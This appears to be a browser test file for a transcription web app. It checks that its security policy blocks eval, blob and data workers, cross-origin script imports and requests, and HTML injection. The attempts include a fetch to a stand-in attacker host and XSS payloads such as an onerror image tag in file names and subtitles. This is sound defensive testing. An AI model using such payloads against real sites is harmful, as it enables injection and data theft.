/** What the policy forbids, in the page and in its workers, tried; and that what comes from files stays text. */
import { readFileSync } from 'node:fs';
import { expect, fixture, test } from '../browser.ts';
import { addFiles } from './words.ts';

const CLIP = fixture('windows/synthetic_en_10s_0.wav');

/** Tries what an attacker would; each is told by the name of the error that it meets, or as "allowed". */
const ATTEMPTS = `(async () => {
  const of = async (task) => { try { await task(); return 'allowed'; } catch (error) { return error.name; } };
  const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
  const tries = {
    'text as code': () => (0, eval)('1'),
    'text as a function': () => new Function('return 1')(),
    'a worker of a blob': () => new Worker(blob),
    'a worker of data': () => new Worker('data:text/javascript,1'),
    'a worker of another file': () => new Worker('./demo/digits.wav'),
    'a script of another origin': () => import('https://attacker.example/x.js'),
    'a script of data': () => import('data:text/javascript,1'),
    'a request to another origin': () => fetch('https://attacker.example/?words'),
    'a policy of one’s own': () => self.trustedTypes.createPolicy('mine', { createHTML: (x) => x }),
  };
  if ('document' in self) Object.assign(tries, {
    'text as HTML': () => { document.createElement('p').innerHTML = '<img src=x onerror=alert(1)>'; },
    'text as HTML beside': () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
    'a document of text': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    'a script’s text': () => { document.createElement('script').text = 'alert(1)'; },
  });
  const told = {};
  // A turn later: what the debugger itself evaluates may evaluate text.
  await new Promise((resolve) => setTimeout(resolve));
  for (const [what, task] of Object.entries(tries)) told[what] = await of(task);
  return told;
})()`;

test('text becomes neither HTML nor a script, and words go nowhere, in the page and in every worker', async ({
  app,
}) => {
  const workers: Record<string, Promise<Record<string, string>>> = {};
  const tell: Record<string, (told: Record<string, string>) => void> = {};
  for (const name of ['engine', 'media', 'store']) workers[name] = new Promise((resolve) => (tell[name] = resolve));
  app.on('console', (message) => {
    const [, name, told] = /^tried in (\w+): (.*)$/.exec(message.text()) ?? [];
    if (name) tell[name](JSON.parse(told) as Record<string, string>);
  });
  await app.route(/\/(engine|media|store)\.worker-[^/]*\.js$/, async (route) => {
    const response = await route.fetch();
    const name = /(engine|media|store)\.worker/.exec(route.request().url())?.[1];
    const tried = `${ATTEMPTS}.then((told) => console.log('tried in ${name}: ' + JSON.stringify(told)));`;
    await route.fulfill({ response, body: `${await response.text()}\n;${tried}` });
  });
  await app.open('?model=whisper-digits-10s&backend=cpu');
  await addFiles(app, CLIP);
  const inPage = await app.evaluate<Record<string, string>>(ATTEMPTS);
  expect(Object.values(inPage).filter((ending) => ending === 'allowed')).toEqual([]);
  expect(Object.keys(inPage)).toHaveLength(13);
  for (const [name, tried] of Object.entries(workers)) {
    const ended = await tried;
    expect(Object.keys(ended), name).toHaveLength(9);
    expect(
      Object.entries(ended).filter(([, ending]) => ending === 'allowed'),
      name,
    ).toEqual([]);
  }
  // Each attempt is complained of; the file was heard meanwhile.
  await expect(app.getByRole('list', { name: 'Queue' }).getByRole('listitem')).toContainText('Done', {
    timeout: 60_000,
  });
  app.consoleErrors = app.consoleErrors.filter((error) => !/Content Security Policy|Trusted/i.test(error));
  app.requestLog = app.requestLog.filter((url) => !url.includes('attacker.example'));
});

test('markup in names, subtitles and transcripts is text on the page', async ({ app }) => {
  const harm = '<img src="x" onerror="document.title=\'taken\'"><script>document.title="taken"</script>';
  await app.open('?model=whisper-digits-10s&backend=cpu');
  await addFiles(
    app,
    { name: `${harm.replaceAll('/', '-')}.wav`, mimeType: 'audio/wav', buffer: readFileSync(CLIP) },
    { name: 'talk.srt', mimeType: 'text/plain', buffer: Buffer.from(`1\n00:00:01,000 --> 00:00:02,000\n${harm}\n`) },
    {
      name: 'talk.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify({ segments: [{ start: 1, end: 2, text: harm, speaker: harm }] })),
    },
  );
  const rows = app.getByRole('list', { name: 'Queue' }).getByRole('listitem');
  await expect(rows).toHaveCount(3);
  for (const name of ['talk.srt', 'talk.json']) {
    const open = rows.filter({ hasText: name }).getByRole('button', { name: 'Open' });
    // The one that is shown has no such button.
    if ((await open.count()) > 0) await open.click();
    const transcript = app.getByRole('region', { name: 'Transcript' });
    await expect(transcript.getByRole('heading', { name: `Transcript ${name}` })).toBeVisible();
    await expect(transcript.getByRole('textbox', { name: /^Text at/ }).first()).toContainText('onerror');
  }
  expect(await app.locator('img[src="x"], script:not([src])').count()).toBe(0);
  expect(await app.title()).not.toBe('taken');
});

test('whoever opens the page gets no hold of it, and no request says where it came from', async ({
  app,
  site,
  harnessSite,
}) => {
  app.allowed.push(harnessSite.url);
  await app.goto(harnessSite.url);
  const [popup] = await Promise.all([
    app.waitForEvent('popup'),
    app.evaluate((url) => void window.open(url), site.url),
  ]);
  const referrers: (string | undefined)[] = [];
  popup.on('request', (request) => referrers.push(request.headers()['referer']));
  await popup.waitForLoadState();
  await popup.reload();
  await expect(popup.getByRole('heading', { name: /Drop a recording/ })).toBeVisible();
  expect(await popup.evaluate(() => window.opener as unknown)).toBe(null);
  expect(await popup.evaluate(() => document.referrer)).toBe('');
  expect(referrers.length).toBeGreaterThan(3);
  expect(referrers.filter((referrer) => referrer !== undefined && referrer !== '')).toEqual([]);
  await popup.close();
  // The harness has no icon.
  app.consoleErrors = app.consoleErrors.filter((error) => !error.includes('favicon.ico'));
});
